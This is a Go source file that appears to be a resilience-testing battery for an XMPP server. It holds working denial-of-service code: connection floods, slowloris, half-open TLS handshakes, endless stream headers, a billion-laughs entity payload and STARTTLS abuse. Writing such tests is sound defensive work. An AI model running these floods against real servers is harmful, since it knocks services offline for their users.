package main

import (
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
)

// attacks lists the battery in the order it runs: cheap stream-level
// floods first, then stanza floods, stores, MUC, and the account flood
// last (it uses up the any-password account quota).
func attacks() []attack {
	var all []attack
	all = append(all, streamAttacks()...)
	all = append(all, xmlAttacks()...)
	all = append(all, sessionAttacks()...)
	all = append(all, moreSessionAttacks()...)
	all = append(all, capsAttacks()...)
	all = append(all, storeAttacks()...)
	all = append(all, mucAttacks()...)
	all = append(all, moreMUCAttacks()...)
	all = append(all, httpAttacks()...)
	all = append(all, moreHTTPAttacks()...)
	all = append(all, uploadPutAttacks()...)
	all = append(all, moderationAttacks()...)
	all = append(all, componentAttacks()...)
	all = append(all, hoardAttacks()...)
	all = append(all, lastAttacks()...)
	return all
}

func streamAttacks() []attack {
	return []attack{
		{"baseline", "no attack: the witness alone, for the machine's own latency", func(e *env) (string, error) {
			e.hold()
			return "", nil
		}},
		{"control-cpu-burn", "no traffic: this process burns two cores, for what CPU contention alone does to the witness", func(e *env) (string, error) {
			e.parallel(4, func(int) {
				x := 0
				for !e.done() {
					for i := range 1 << 20 {
						x += i
					}
				}
				_ = x
			})
			return "", nil
		}},
		{"conn-idle-1ip", "connections from 127.0.0.1 (the witness's own address) that never send a byte", func(e *env) (string, error) {
			return connFlood(e, 3000, 1, nil, "")
		}},
		{"conn-idle-manyip", "15,000 silent connections over 500 source addresses", func(e *env) (string, error) {
			return connFlood(e, 15000, 500, nil, "")
		}},
		{"header-half-open", "8,000 connections over 400 addresses that send a stream header and half a stanza, then nothing", func(e *env) (string, error) {
			return connFlood(e, 8000, 400, nil, e.streamHeader()+"<iq type='get' id='x'><query xmlns='jabber:iq:ver")
		}},
		{"slowloris", "2,000 connections over 100 addresses dribbling one byte of a stanza every 500 ms", func(e *env) (string, error) {
			return slowloris(e, 2000, 100)
		}},
		{"slow-tls", "3,000 connections that ask for STARTTLS and then send half a ClientHello", func(e *env) (string, error) {
			return connFlood(e, 3000, 150, func(nc net.Conn) error {
				if err := startTLS(e, nc); err != nil {
					return err
				}
				// A TLS record header announcing a 16 KB handshake,
				// and only its first bytes.
				_, err := nc.Write([]byte{0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc, 0x03, 0x03})
				return err
			}, "")
		}},
		{"header-huge-attr", "64 connections each streaming a stream header whose attribute value never ends", func(e *env) (string, error) {
			return endless(e, 64, 16, e.streamHeader()[:len(e.streamHeader())-1]+" x='", "aaaaaaaaaaaaaaaa")
		}},
		{"header-many-attrs", "64 connections each streaming a stream header with endless attributes", func(e *env) (string, error) {
			var n atomic.Int64
			return endlessFunc(e, 64, 16, e.streamHeader()[:len(e.streamHeader())-1], func() string {
				return " a" + strconv.FormatInt(n.Add(1), 36) + "='1'"
			})
		}},
		{"header-many-ns", "64 connections each streaming a stream header with endless namespace declarations", func(e *env) (string, error) {
			var n atomic.Int64
			return endlessFunc(e, 64, 16, e.streamHeader()[:len(e.streamHeader())-1], func() string {
				i := strconv.FormatInt(n.Add(1), 36)
				return " xmlns:p" + i + "='urn:x:" + i + "'"
			})
		}},
		{"header-huge-name", "64 connections streaming an element name that never ends before the stream header", func(e *env) (string, error) {
			return endless(e, 64, 16, "<?xml version='1.0'?><stream:stream", "xxxxxxxxxxxxxxxxxxxx")
		}},
		{"doctype-entities", "connections opening with a DOCTYPE that defines nested entities (billion laughs), then using them", func(e *env) (string, error) {
			dtd := `<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
				`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
				`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">` +
				`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
				`<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>` +
				`<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' to='&lol9;' version='1.0'>&lol9;`
			return repeatConnect(e, 32, 32, func(nc net.Conn) error {
				_, err := io.WriteString(nc, dtd)
				return err
			})
		}},
		{"conn-churn", "connect, send a header, disconnect, as fast as possible from 200 addresses", func(e *env) (string, error) {
			return repeatConnect(e, 32, 200, func(nc net.Conn) error {
				_, err := io.WriteString(nc, e.streamHeader())
				return err
			})
		}},
		{"starttls-abuse", "STARTTLS twice, STARTTLS after auth, and plaintext garbage after <proceed/>", func(e *env) (string, error) {
			var k atomic.Int64
			return repeatConnect(e, 32, 100, func(nc net.Conn) error {
				switch k.Add(1) % 3 {
				case 0:
					_, err := io.WriteString(nc, e.streamHeader()+strings.Repeat("<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>", 50))
					return err
				case 1:
					_, err := io.WriteString(nc, e.streamHeader()+"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"+strings.Repeat("<iq type='get' id='x'/>", 200))
					return err
				default:
					s, err := e.loginOn(nc, "tls"+strconv.FormatInt(k.Load()%50, 10), "")
					if err != nil {
						return err
					}
					return s.send("<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
				}
			})
		}},
	}
}

// connFlood opens n connections over nIPs source addresses (from
// 127.0.0.1 when nIPs is 1), runs setup on each (or writes prefix), and
// holds them until the attack's time is up.
func connFlood(e *env, n, nIPs int, setup func(net.Conn) error, prefix string) (string, error) {
	var next atomic.Int64
	e.parallel(32, func(int) {
		for !e.done() {
			i := int(next.Add(1) - 1)
			if i >= n {
				return
			}
			var src net.IP
			if nIPs > 1 {
				src = ip(i % nIPs)
			}
			nc, err := e.dial(src, false)
			if err != nil {
				continue
			}
			if prefix != "" {
				if _, err := io.WriteString(nc, prefix); err != nil {
					e.noteErr(err)
				}
			}
			if setup != nil {
				if err := setup(nc); err != nil {
					e.failed.Add(1)
					e.noteErr(err)
				}
			}
		}
	})
	note := e.counts()
	e.hold()
	return note + fmt.Sprintf(", %d still open at the end", stillOpen(e)), nil
}

// stillOpen counts the attack's connections the server has not closed: a
// non-blocking peek that finds nothing to read means open; EOF or a reset
// means closed (data waiting counts as open).
func stillOpen(e *env) int {
	e.mu.Lock()
	cs := append([]net.Conn(nil), e.conns...)
	e.mu.Unlock()
	open := 0
	buf := make([]byte, 1)
	for _, c := range cs {
		sc, ok := c.(syscall.Conn)
		if !ok {
			continue
		}
		rc, err := sc.SyscallConn()
		if err != nil {
			continue
		}
		_ = rc.Control(func(fd uintptr) {
			n, _, err := syscall.Recvfrom(int(fd), buf, syscall.MSG_PEEK|syscall.MSG_DONTWAIT)
			if n > 0 || err == syscall.EAGAIN {
				open++
			}
		})
	}
	return open
}

// slowloris has n connections send a stream header and then a stanza one
// byte every 500 ms.
func slowloris(e *env, n, nIPs int) (string, error) {
	var conns []net.Conn
	for i := 0; i < n && !e.done(); i++ {
		nc, err := e.dial(ip(i%nIPs), false)
		if err != nil {
			continue
		}
		if _, err := io.WriteString(nc, e.streamHeader()); err != nil {
			continue
		}
		conns = append(conns, nc)
	}
	st := "<iq type='get' id='slow' to='" + e.domain + "'><query xmlns='jabber:iq:version'/></iq>"
	for k := 0; !e.done(); k++ {
		for _, nc := range conns {
			_ = nc.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
			_, _ = nc.Write([]byte{st[k%len(st)]})
		}
		select {
		case <-e.ctx.Done():
		case <-time.After(500 * time.Millisecond):
		}
	}
	return e.counts() + fmt.Sprintf(", %d still open at the end", stillOpen(e)), nil
}

// endless has n connections (over nIPs addresses) write prefix once and
// then chunk forever, as fast as the server reads.
func endless(e *env, n, nIPs int, prefix, chunk string) (string, error) {
	return endlessFunc(e, n, nIPs, prefix, func() string { return chunk })
}

func endlessFunc(e *env, n, nIPs int, prefix string, chunk func() string) (string, error) {
	var closedBy atomic.Int64
	e.parallel(n, func(i int) {
		for !e.done() {
			nc, err := e.dialOpt(ip(i%nIPs), false, false)
			if err != nil {
				time.Sleep(50 * time.Millisecond)
				continue
			}
			if _, err := io.WriteString(nc, prefix); err != nil {
				continue
			}
			var b strings.Builder
			for !e.done() {
				b.Reset()
				for b.Len() < 32<<10 {
					b.WriteString(chunk())
				}
				_ = nc.SetWriteDeadline(time.Now().Add(time.Second))
				if _, err := io.WriteString(nc, b.String()); err != nil {
					closedBy.Add(1)
					break
				}
				e.sentBytes.Add(int64(b.Len()))
			}
			nc.Close()
		}
	})
	return e.counts() + fmt.Sprintf(", server cut %d streams, %s written", closedBy.Load(), mb(e.sentBytes.Load())), nil
}

// repeatConnect has 32 workers connect (over nIPs addresses), run f,
// read the server's answer for up to 200 ms and close, over and over.
func repeatConnect(e *env, workers, nIPs int, f func(net.Conn) error) (string, error) {
	var rounds atomic.Int64
	e.parallel(workers, func(w int) {
		for k := 0; !e.done(); k++ {
			nc, err := e.dialOpt(ip((w+k*workers)%nIPs), false, false)
			if err != nil {
				time.Sleep(20 * time.Millisecond)
				continue
			}
			if err := f(nc); err != nil {
				e.noteErr(err)
			}
			_ = nc.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
			_, _ = io.Copy(io.Discard, nc)
			nc.Close()
			rounds.Add(1)
		}
	})
	return fmt.Sprintf("%d rounds, ", rounds.Load()) + e.counts(), nil
}

// startTLS opens a stream on nc and asks for STARTTLS, and returns once
// the server said proceed (within 5 s), so that what the attack writes
// next is read as TLS.
func startTLS(e *env, nc net.Conn) error {
	if _, err := io.WriteString(nc, e.streamHeader()+"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"); err != nil {
		return err
	}
	_ = nc.SetReadDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 4096)
	var got []byte
	for !strings.Contains(string(got), "proceed") {
		n, err := nc.Read(buf)
		if err != nil {
			return err
		}
		got = append(got, buf[:n]...)
	}
	return nil
}
